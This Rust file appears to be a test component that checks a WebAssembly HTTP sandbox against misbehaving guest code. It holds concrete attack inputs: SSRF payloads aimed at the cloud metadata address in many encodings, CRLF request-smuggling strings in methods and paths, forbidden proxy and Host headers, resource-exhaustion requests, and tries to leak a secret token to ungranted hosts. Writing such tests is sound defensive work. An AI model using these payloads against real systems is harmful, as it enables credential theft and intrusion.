//! What each behaviour does.

use std::thread::sleep;
use std::time::Duration;

use wasip2::http::types::{Fields, Method, OutgoingBody, RequestOptions};
use wasm_issuer_sdk::secrets::{self, PlaceholderForm};

use super::Behaviour;
use super::client::{Url, body, get, get_with, post, request, response, send, told, write};

const UNGRANTED: &str = "ungranted.example.net";

pub fn run(behaviour: Behaviour, url: &str) -> String {
    let url = &Url::new(url);
    match behaviour {
        Behaviour::Get => get(url),
        Behaviour::Ungranted => {
            all(["https", "http"].map(|scheme| get(&Url::new(&format!("{scheme}://{UNGRANTED}/")))))
        }
        Behaviour::Metadata => metadata(),
        Behaviour::Userinfo => all([
            format!("{}@169.254.169.254", url.authority),
            format!("user@{}", url.authority),
            format!("user:password@{}", url.authority),
        ]
        .map(|authority| get(&Url { authority, ..url.clone() }))),
        Behaviour::HostHeader => host_header(url),
        Behaviour::Trailers => trailers(url),
        Behaviour::Redirect => redirect(url),
        Behaviour::PathTricks => path_tricks(url),
        Behaviour::Methods => all(["CONNECT", "TRACE", "GET / HTTP/1.1\r\nx: "].map(|method| {
            let sent = request(Method::Other(method.to_owned()), url, Fields::new());
            told(sent.and_then(|request| send(request, None)).and_then(|future| response(&future)))
        })),
        Behaviour::Read => read(url, None),
        Behaviour::TimeoutsHuge => read(url, Some(u64::MAX)),
        Behaviour::TimeoutsZero => read(url, Some(0)),
        Behaviour::ManyRequests => many_requests(url),
        Behaviour::ManyAtOnce => many_at_once(url),
        Behaviour::BigBody => sent_body(url, &[], &vec![b'x'; 2 << 20]),
        Behaviour::LongParts => long_parts(url),
        Behaviour::LongFields => long_fields(),
        Behaviour::ShortBody => sent_body(url, &[("content-length", "10")], b"short"),
        Behaviour::HoldConnection => {
            let _held = half_a_body(url);
            wait()
        }
        Behaviour::HoldResponse => {
            let future = request(Method::Get, url, Fields::new()).and_then(|request| send(request, None));
            let _held = future.and_then(|future| response(&future));
            wait()
        }
        Behaviour::TrapInBody => {
            let _held = half_a_body(url);
            std::process::abort()
        }
        Behaviour::Placeholder => placeholder().map_or_else(|error| error, |token| authorized(url, &token)),
        Behaviour::PlaceholderElsewhere => placeholder_elsewhere(url),
        Behaviour::PlaceholderUngranted => placeholder().map_or_else(
            |error| error,
            |token| {
                let elsewhere = Url { authority: UNGRANTED.to_owned(), ..url.clone() };
                let plain = Url { scheme: "http".to_owned(), ..url.clone() };
                all([authorized(&elsewhere, &token), authorized(&plain, &token)])
            },
        ),
    }
}

fn all<const N: usize>(answers: [String; N]) -> String {
    answers.join(", ")
}

fn wait() -> String {
    sleep(Duration::from_secs(3600));
    "an hour has passed".to_owned()
}

fn metadata() -> String {
    all([
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.169.254/",
        "http://169.254.169.254./",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://[::ffff:169.254.169.254]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://[fd00:ec2::254]/",
        "http://metadata.google.internal/",
        "http://127.0.0.1/",
        "http://localhost/",
    ]
    .map(|url| get(&Url::new(url))))
}

const HOSTS_OWN: [(&str, &[u8]); 8] = [
    ("host", b"169.254.169.254"),
    ("Host", b"169.254.169.254"),
    ("connection", b"host"),
    ("transfer-encoding", b"chunked"),
    ("upgrade", b"h2c"),
    ("proxy-authorization", b"Basic eDp4"),
    ("proxy-connection", b"keep-alive"),
    ("proxy-x", b"x"),
];

/// Set them in each of the three ways. Says which were taken.
fn forbidden(fields: &Fields) -> String {
    let taken = HOSTS_OWN.iter().filter(|(name, value)| {
        let at_once = Fields::from_list(&[((*name).to_owned(), value.to_vec())]);
        at_once.is_ok() | fields.append(name, value).is_ok() | fields.set(name, &[value.to_vec()]).is_ok()
    });
    format!("taken: {}", taken.map(|(name, _)| *name).collect::<Vec<_>>().join(" "))
}

fn host_header(url: &Url) -> String {
    let fields = Fields::new();
    let taken = forbidden(&fields);
    format!("{taken}, {}", get_with(url, fields))
}

fn trailers(url: &Url) -> String {
    let (future, outgoing) = match post(url, Fields::new()) {
        Ok(posted) => posted,
        Err(error) => return error,
    };
    let fields = Fields::new();
    let taken = forbidden(&fields);
    let finished = OutgoingBody::finish(outgoing, Some(fields));
    format!("{taken}, finished: {}, {}", finished.is_ok(), told(response(&future)))
}

fn redirect(url: &Url) -> String {
    let sent = request(Method::Get, url, Fields::new()).and_then(|request| send(request, None));
    match sent.and_then(|future| response(&future)) {
        Ok(response) => {
            let location = response.headers().get("location").first().cloned().unwrap_or_default();
            let location = String::from_utf8_lossy(&location).into_owned();
            format!("{}, {}", response.status(), get(&Url::new(&location)))
        }
        Err(error) => error,
    }
}

fn path_tricks(url: &Url) -> String {
    all([
        "http://169.254.169.254/",
        "169.254.169.254:80",
        "*",
        "/ HTTP/1.1\r\nhost: 169.254.169.254\r\n\r\nGET /",
        "@169.254.169.254/",
        ":80@169.254.169.254/",
        "//169.254.169.254/",
        "/../../x?http://169.254.169.254/",
    ]
    .map(|path| get(&Url { path: path.to_owned(), ..url.clone() })))
}

fn read(url: &Url, nanoseconds: Option<u64>) -> String {
    let options = nanoseconds.map(|nanoseconds| {
        let options = RequestOptions::new();
        let _ = options.set_connect_timeout(Some(nanoseconds));
        let _ = options.set_first_byte_timeout(Some(nanoseconds));
        let _ = options.set_between_bytes_timeout(Some(nanoseconds));
        options
    });
    let sent = request(Method::Get, url, Fields::new()).and_then(|request| send(request, options));
    match sent.and_then(|future| response(&future)) {
        Ok(response) => {
            let (bytes, end) = body(&response);
            format!("{} bytes, then {}", bytes.len(), end.unwrap_or_else(|| "the end".to_owned()))
        }
        Err(error) => error,
    }
}

fn many_requests(url: &Url) -> String {
    let answers: Vec<_> = (0..100).map(|_| get(url)).collect();
    let good = answers.iter().filter(|answer| answer.starts_with("200")).count();
    format!("{good} responses, then {}", answers.last().cloned().unwrap_or_default())
}

fn many_at_once(url: &Url) -> String {
    let futures: Vec<_> = (0..20)
        .map(|_| request(Method::Get, url, Fields::new()).and_then(|request| send(request, None)))
        .collect();
    let responses: Vec<_> =
        futures.iter().map(|future| future.as_ref().map_err(Clone::clone).and_then(response)).collect();
    let good = responses.iter().filter(|response| response.is_ok()).count();
    let error = responses.iter().find_map(|response| response.as_ref().err().cloned());
    format!("{good} responses, and {}", error.unwrap_or_default())
}

fn fields(list: &[(&str, &str)]) -> Fields {
    let list: Vec<_> =
        list.iter().map(|(name, value)| ((*name).to_owned(), value.as_bytes().to_vec())).collect();
    Fields::from_list(&list).unwrap_or_else(|_| Fields::new())
}

fn sent_body(url: &Url, headers: &[(&str, &str)], bytes: &[u8]) -> String {
    let (future, outgoing) = match post(url, fields(headers)) {
        Ok(posted) => posted,
        Err(error) => return error,
    };
    let written = write(&outgoing, bytes)
        .and_then(|()| OutgoingBody::finish(outgoing, None).map_err(|_| "finish refused".to_owned()));
    format!("{}, {}", written.err().unwrap_or_else(|| "all written".to_owned()), told(response(&future)))
}

fn half_a_body(url: &Url) -> impl Sized {
    let posted = post(url, Fields::new());
    if let Ok((_, outgoing)) = &posted {
        let _ = write(outgoing, b"half");
        // Until it is on its way.
        sleep(Duration::from_millis(200));
    }
    posted
}

fn long_parts(url: &Url) -> String {
    let long = "a".repeat(60_000);
    let kept = |method: &str, url: Url| match request(Method::Other(method.to_owned()), &url, Fields::new()) {
        Ok(_) => "kept".to_owned(),
        Err(error) => error,
    };
    all([
        kept(&long.repeat(50), url.clone()),
        kept("GET", Url { path: format!("/{long}"), ..url.clone() }),
        kept("GET", Url { authority: long, ..url.clone() }),
    ])
}

fn long_fields() -> String {
    let fields = Fields::new();
    let taken = (0..1000).take_while(|_| fields.append("x", &[b'x'; 1000]).is_ok());
    format!("{} KB taken", taken.count())
}

fn placeholder() -> Result<String, String> {
    let token = secrets::get("token").and_then(|secret| secret.placeholder(&PlaceholderForm::Plain));
    token.map_err(|error| error.to_string())
}

fn authorized(url: &Url, token: &str) -> String {
    get_with(url, fields(&[("authorization", &format!("Bearer {token}"))]))
}

fn placeholder_elsewhere(url: &Url) -> String {
    let token = match placeholder() {
        Ok(token) => token,
        Err(error) => return error,
    };
    let url = Url { path: format!("/{token}?{token}"), ..url.clone() };
    sent_body(&url, &[(&token, "x")], token.as_bytes())
}
